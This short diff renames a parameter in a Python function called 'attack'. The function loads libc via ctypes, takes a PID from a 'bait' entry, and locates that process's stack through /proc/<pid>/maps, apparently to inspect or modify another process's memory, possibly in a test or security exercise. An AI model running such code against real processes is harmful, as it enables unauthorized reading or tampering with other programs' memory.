@@ -7,8 +7,8 @@ class Part(ctypes.Structure):
     _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))
 
 
-def attack(told: dict[str, str]) -> None:
-    libc, pid = ctypes.CDLL(None, use_errno=True), int(told["bait"])
+def attack(facts: dict[str, str]) -> None:
+    libc, pid = ctypes.CDLL(None, use_errno=True), int(facts["bait"])
     with open(f"/proc/{pid}/maps") as maps:
         line = next(line for line in maps if "[stack]" in line)
     last = int(line.split()[0].split("-")[1], 16)
